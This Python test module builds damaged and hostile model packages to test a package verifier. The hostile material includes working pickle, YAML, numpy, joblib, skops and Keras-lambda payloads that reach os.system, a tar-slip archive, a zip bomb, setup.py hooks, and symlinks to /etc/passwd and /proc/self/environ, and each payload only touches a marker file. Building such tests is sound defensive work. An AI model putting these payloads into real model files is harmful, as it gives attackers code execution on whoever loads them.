"""Packages as a broken disk, a wrong hand or an attacker would leave them: 500 seeded cases of harm, and twelve payloads that want to run.

`HARMS` change a good package folder in place, in a store or in a replica's cache; `harmed(seed)` picks and aims one. `payloads` are
files in the shapes of known holes of model formats and archives; each would touch a file, its mark, if anything opened it as it wants to
be opened, and `detonate` opens it that way.
"""

import base64
import io
import json
import marshal
import os
import pickle
import random
import socket
import stat
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from mlops_lab.scoring.files import LIMITS, Package
from mlops_lab.scoring.forest import FORMAT
from mlops_lab.scoring.manifest import Manifest, sha256, sign

_ORDER_OF_ED25519 = 2**252 + 27742317777372353535851937790883648493
STRANGER = Ed25519PrivateKey.from_private_bytes(bytes(range(1, 33)))
"""A key that nobody trusts."""
RETIRED = Ed25519PrivateKey.from_private_bytes(bytes(range(2, 34)))
"""A key that was trusted once."""

CASES = 500


@dataclass(frozen=True)
class World:
    """What an attacker has at hand.

    Attributes:
        key: The trusted key, for packages that are rightly signed and in the wrong place.
        other_version: A good package of the same model.
        other_model: Name of another model of the same owner.
    """

    key: Ed25519PrivateKey
    other_version: Package
    other_model: str


Harm = Callable[[Path, random.Random, World], None]


def _a_file(rng: random.Random) -> str:
    return rng.choice(list(LIMITS))


def _bits_flipped(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    content = bytearray(path.read_bytes())
    for at in rng.sample(range(len(content)), min(rng.choice((1, 1, 2, 8)), len(content))):
        content[at] ^= 1 << rng.randrange(8)
    path.write_bytes(content)


def _cut_off(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    content = path.read_bytes()
    path.write_bytes(content[: rng.randrange(len(content))])


def _bytes_put_in(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    content, at = path.read_bytes(), rng.randrange(path.stat().st_size + 1)
    path.write_bytes(content[:at] + rng.randbytes(rng.choice((1, 2, 64, 4096))) + content[at:])


def _a_page_of_zeros(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    content = bytearray(path.read_bytes())
    at, length = rng.randrange(len(content)), rng.choice((1, 16, 512))
    content[at : at + length] = bytes(len(content[at : at + length]))
    if bytes(content) == path.read_bytes():
        content[at] = 1
    path.write_bytes(content)


def _files_swapped(folder: Path, rng: random.Random, world: World) -> None:
    one, other = rng.sample(list(LIMITS), 2)
    contents = (folder / one).read_bytes(), (folder / other).read_bytes()
    (folder / one).write_bytes(contents[1])
    (folder / other).write_bytes(contents[0])


def _a_file_gone(folder: Path, rng: random.Random, world: World) -> None:
    (folder / _a_file(rng)).unlink()


def _of_another_version(folder: Path, rng: random.Random, world: World) -> None:
    put(folder, world.other_version)


def _a_file_of_another_version(folder: Path, rng: random.Random, world: World) -> None:
    """A replay: its manifest with its signature, or any one of its files."""
    names = rng.choice((("manifest.json", "signature"), ("scorer.json",), ("manifest.json",), ("signature",)))
    for name, content in zip(LIMITS, world.other_version, strict=True):
        if name in names:
            (folder / name).write_bytes(content)


def _of_another_model(folder: Path, rng: random.Random, world: World) -> None:
    """The same scorer, rightly signed, for another model."""
    scorer = (folder / "scorer.json").read_bytes()
    put(folder, signed(scorer, world.key, model=world.other_model))


def _signed_by(key: Ed25519PrivateKey) -> Harm:
    def harm(folder: Path, rng: random.Random, world: World) -> None:
        manifest = (folder / "manifest.json").read_bytes()
        if rng.random() < 0.5:  # and with something else inside
            scorer = (folder / "scorer.json").read_bytes() + rng.randbytes(3)
            said = Manifest.from_bytes(manifest)
            manifest = Manifest(said.model, sha256(scorer), said.data_sha256, said.recipe_sha256).to_bytes()
            (folder / "scorer.json").write_bytes(scorer)
            (folder / "manifest.json").write_bytes(manifest)
        (folder / "signature").write_bytes(key.sign(manifest))

    return harm


def _digests_confused(folder: Path, rng: random.Random, world: World) -> None:
    """Rightly signed, but the digest in the manifest is that of something else, or the scorer's in another form."""
    scorer, manifest = (folder / "scorer.json").read_bytes(), Manifest.from_bytes((folder / "manifest.json").read_bytes())
    right = manifest.scorer_sha256
    wrong = rng.choice((right.upper(), right[:-1], f" {right}", right + "\n", f"sha256:{right}", "", sha256(manifest.to_bytes()), "0" * 64))
    if rng.random() < 0.3:
        scorer, wrong = (other := world.other_version.scorer), sha256(other)
    put(folder, signed(scorer, world.key, model=manifest.model, digest=wrong))


def _manifest_in_another_form(folder: Path, rng: random.Random, world: World) -> None:
    """Rightly signed JSON that says the same and more, or in another way."""
    said = json.loads((folder / "manifest.json").read_bytes())
    form = rng.choice(
        (
            json.dumps(said, indent=1),
            json.dumps({**said, "loader_module": "os"}),
            json.dumps({**said, "format": "mlops-lab-package/2"}),
            json.dumps({**said, "model": [said["model"]]}),
            json.dumps(list(said.values())),
            "[" * 8_000,
            '{"model":"evil",' + json.dumps(said)[1:],
        )
    ).encode()
    (folder / "manifest.json").write_bytes(form)
    (folder / "signature").write_bytes(world.key.sign(form))


def _signature_of_another_form(folder: Path, rng: random.Random, world: World) -> None:
    """Ed25519 signatures that a careless check would take: s + L, zeros, hexadecimal, one byte more or less."""
    right = (folder / "signature").read_bytes()
    malleable = right[:32] + (int.from_bytes(right[32:], "little") + _ORDER_OF_ED25519).to_bytes(32, "little")
    wrong = rng.choice((malleable, bytes(64), right.hex().encode(), right + b"\n", right[:-1], b"", bytes([1]) + bytes(63)))
    (folder / "signature").write_bytes(wrong)


def _a_link(folder: Path, rng: random.Random, world: World) -> None:
    """To what it should be, to a secret, to endless zeros, to nothing, to itself."""
    path = folder / _a_file(rng)
    elsewhere = folder.parent / f"elsewhere-{rng.random()}"
    path.rename(elsewhere)
    path.symlink_to(rng.choice((elsewhere, "/etc/passwd", "/dev/zero", "/nowhere", path.name, "/proc/self/environ")))


def _the_folder_a_link(folder: Path, rng: random.Random, world: World) -> None:
    elsewhere = folder.parent / f"elsewhere-{rng.random()}"
    folder.rename(elsewhere)
    folder.symlink_to(rng.choice((elsewhere, folder.parent, Path("/"), Path("/proc/self"), folder)))


def _a_pipe(folder: Path, rng: random.Random, world: World) -> None:
    """Opening it for reading waits for a writer."""
    path = folder / _a_file(rng)
    path.unlink()
    os.mkfifo(path)


def _a_device(folder: Path, rng: random.Random, world: World) -> None:
    """Endless zeros where one may make devices; elsewhere a socket."""
    path = folder / _a_file(rng)
    path.unlink()
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    except OSError:
        _socket_at(path)


def _a_socket(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    path.unlink()
    _socket_at(path)


def _a_huge_file(folder: Path, rng: random.Random, world: World) -> None:
    """A terabyte of nothing, which takes no room on the disk and all of the memory; or just too much."""
    path = folder / _a_file(rng)
    os.truncate(path, rng.choice((2**40, 2**33, LIMITS[path.name] + 1)))


def _a_folder(folder: Path, rng: random.Random, world: World) -> None:
    path = folder / _a_file(rng)
    path.unlink()
    path.mkdir()
    (path / "inside").write_bytes(b"x")


def _the_folder_a_file(folder: Path, rng: random.Random, world: World) -> None:
    for name in LIMITS:
        (folder / name).unlink()
    folder.rmdir()
    if rng.random() < 0.5:
        os.mkfifo(folder)
    else:
        folder.write_bytes(rng.randbytes(100))


def _a_deep_nest(folder: Path, rng: random.Random, world: World) -> None:
    """Folders in folders, deeper than Python's stack: whoever removes them by recursion falls over."""
    (folder / _a_file(rng)).unlink()
    at = os.open(folder, os.O_RDONLY)
    for _ in range(rng.choice((50, 50, 50, 1_200))):
        os.mkdir("d", dir_fd=at)
        below = os.open("d", os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = below
    os.close(at)


HARMS: dict[str, Harm] = {
    "bits flipped": _bits_flipped,
    "cut off": _cut_off,
    "bytes put in": _bytes_put_in,
    "a page of zeros": _a_page_of_zeros,
    "files swapped": _files_swapped,
    "a file gone": _a_file_gone,
    "another version's package": _of_another_version,
    "a file of another version": _a_file_of_another_version,
    "another model's package": _of_another_model,
    "signed by a stranger": _signed_by(STRANGER),
    "signed by a retired key": _signed_by(RETIRED),
    "digests confused": _digests_confused,
    "a manifest in another form": _manifest_in_another_form,
    "a signature of another form": _signature_of_another_form,
    "a link": _a_link,
    "the folder a link": _the_folder_a_link,
    "a pipe": _a_pipe,
    "a device": _a_device,
    "a socket": _a_socket,
    "a huge file": _a_huge_file,
    "a folder for a file": _a_folder,
    "a file for the folder": _the_folder_a_file,
    "a deep nest": _a_deep_nest,
}


def harmed(folder: Path, seed: int, world: World) -> str:
    """Do one harm to the good package in a folder, always the same for a seed; every harm has its turn. Returns its name."""
    name = list(HARMS)[seed % len(HARMS)]
    HARMS[name](folder, random.Random(seed), world)
    return name


def put(folder: Path, package: Package) -> None:
    """Write the three files, over what is there."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in zip(LIMITS, package, strict=True):
        (folder / name).write_bytes(content)


def signed(scorer: bytes, key: Ed25519PrivateKey, model: str, digest: str | None = None) -> Package:
    """A package with a manifest over any bytes."""
    manifest = Manifest(model, sha256(scorer) if digest is None else digest, "d" * 64, "e" * 64)
    return Package(scorer, manifest.to_bytes(), sign(manifest, key))


def _socket_at(path: Path) -> None:
    here = os.open(path.parent, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(f"/proc/self/fd/{here}/{path.name}")  # a socket's address is short
    os.close(here)


# -- payloads ------------------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """One hostile model file.

    Attributes:
        shape: The hole that it is shaped after.
        content: What lies in the place of scorer.json.
        beside: Further files of the folder, by name, as the format has them.
        mark: The file that it touches when it runs.
        detonator: A program that opens `payload` the way the hole does; its working directory holds `payload` and the files beside.
    """

    shape: str
    content: bytes
    beside: dict[str, bytes]
    mark: Path
    detonator: str


class _Touches:
    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self._mark}",)


def payloads(marks: Path) -> dict[str, Payload]:
    """The twelve, each with a mark of its own in the folder."""

    def mark(name: str) -> Path:
        return marks / name.replace(" ", "-")

    def touch(name: str) -> str:
        return f"import pathlib; pathlib.Path({str(mark(name))!r}).touch()"

    found: dict[str, tuple[str, bytes, dict[str, bytes], str]] = {}
    name = "pickle"
    found[name] = (
        "CVE-2024-37052 to 37060: MLflow loads a pickled model",
        pickle.dumps(_Touches(mark(name))),
        {},
        "import pickle; pickle.load(open('payload', 'rb'))",
    )
    name = "mlmodel"
    found[name] = (
        "an MLmodel file names the module that loads it, and brings it along (python_function, loader_module, code)",
        b"flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: data\n    env: conda.yaml\n",
        {"MLmodel": b"flavors: {python_function: {loader_module: evil_loader, code: .}}\n", "evil_loader.py": touch(name).encode()},
        "import sys, re, importlib; sys.path.insert(0, '.');"
        "importlib.import_module(re.search(r'loader_module: (\\w+)', open('payload').read())[1])",
    )
    name = "skops"
    found[name] = (
        "CVE-2025-54412 to 54886: a skops file whose nodes say that they are trusted, and call what they like",
        _a_zip({"schema.json": json.dumps(_skops_schema(str(mark(name)))).encode()}),
        {"MLmodel": b"flavors: {sklearn: {serialization_format: skops, skops_trusted_types: [os.system, posix.system]}}\n"},
        "import zipfile, json, importlib; s = json.loads(zipfile.ZipFile('payload').read('schema.json'));"
        "f = getattr(importlib.import_module(s['content']['func']['__module__']), s['content']['func']['__class__']);"
        "f(s['content']['args'][0])",
    )
    name = "tar slip"
    found[name] = (
        "CVE-2007-4559: an archive that is unpacked to where its names say",
        _a_tar({f"../../../../../../../../../..{mark(name)}": b"here", "scorer.json": b"{}"}),
        {},
        "import tarfile; tarfile.open('payload').extractall(filter='fully_trusted')",
    )
    name = "zip bomb"
    found[name] = (
        "an archive of some kB that unpacks to 128 MB",
        _a_zip({"scorer.json": bytes(128 * 1024 * 1024), "run.py": touch(name).encode()}),
        {},
        "import zipfile, sys; z = zipfile.ZipFile('payload'); assert z.getinfo('scorer.json').file_size > 1e8; exec(z.read('run.py'))",
    )
    name = "requirements hook"
    found[name] = (
        "the environment of a model is built before it is loaded, and building runs its setup.py",
        b"--find-links .\n-e .\n",
        {
            "requirements.txt": b"-e .\n",
            "conda.yaml": b"dependencies: [{pip: ['-e .']}]\n",
            "setup.py": touch(name).encode(),
            "sitecustomize.py": touch(name).encode(),
        },
        "exec(open('setup.py').read())",
    )
    name = "yaml"
    found[name] = (
        "CVE-2020-14343: YAML that builds Python objects",
        f'!!python/object/apply:os.system ["touch {mark(name)}"]\n'.encode(),
        {"MLmodel": f'!!python/object/apply:os.system ["touch {mark(name)}"]\n'.encode()},
        "import yaml; yaml.unsafe_load(open('payload'))",
    )
    name = "keras lambda"
    code = base64.b64encode(marshal.dumps(compile(touch(name), "lambda", "exec"))).decode()
    layer = {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda", "module": "builtins"}}
    found[name] = (
        "CVE-2024-3660, CVE-2025-1550: a layer whose configuration is code",
        json.dumps(layer).encode(),
        {},
        "import json, marshal, base64; exec(marshal.loads(base64.b64decode(json.load(open('payload'))['config']['function'][0])))",
    )
    name = "npy"
    written = io.BytesIO()
    np.save(written, np.array([_Touches(mark(name))], dtype=object), allow_pickle=True)
    found[name] = (
        "CVE-2019-6446: an array of objects is a pickle",
        written.getvalue(),
        {},
        "import numpy; numpy.load('payload', allow_pickle=True)",
    )
    name = "joblib"
    found[name] = (
        "CVE-2024-34997: joblib.load is pickle.load",
        pickle.dumps({"model": [_Touches(mark(name))]}, protocol=4),
        {},
        "import joblib; joblib.load('payload')",
    )
    name = "nesting"
    deep = '{"baseline":0.0,"categories":{},"features":[],"format":"' + FORMAT + '","trees":[' + "[" * 4_000_000
    found[name] = (
        "JSON that is deeper than the parser's stack",
        deep.encode(),
        {},
        f"import json\ntry: json.load(open('payload'))\nexcept (RecursionError, ValueError): {touch(name)}",
    )
    name = "class hints"
    hints = {"__proto__": {"x": 1}, "py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, [f"touch {mark(name)}"]]}
    document = {"baseline": 0.0, "categories": {}, "features": [hints], "format": FORMAT, "trees": [[0.5]]}
    found[name] = (
        "jsonpickle and prototype pollution: JSON with hints which class to build, in an otherwise right file",
        json.dumps(document, separators=(",", ":")).encode(),
        {},
        "import json, os; r = json.load(open('payload'))['features'][0]['py/reduce'];"
        "getattr(os, r[0]['py/function'].split('.')[1])(r[1][0])",
    )
    return {name: Payload(shape, content, beside, mark(name), run) for name, (shape, content, beside, run) in found.items()}


def detonate(payload: Payload, folder: Path) -> None:
    """Open the payload as the hole does, in a process of its own: it leaves its mark, or it is no payload."""
    folder.mkdir(parents=True)
    for name, content in {"payload": payload.content, **payload.beside}.items():
        if name != "sitecustomize.py":  # it would run in every Python that starts here
            (folder / name).write_bytes(content)
    subprocess.run([sys.executable, "-c", payload.detonator], cwd=folder, capture_output=True, timeout=60, check=False)


def _a_zip(files: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def _a_tar(files: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w:gz") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return written.getvalue()


def _skops_schema(mark: str) -> dict[str, object]:
    call = {"func": {"__class__": "system", "__module__": "os"}, "args": [f"touch {mark}"]}
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "MethodNode",
        "content": call,
        "trusted": ["os.system"],
        "protocol": 2,
    }
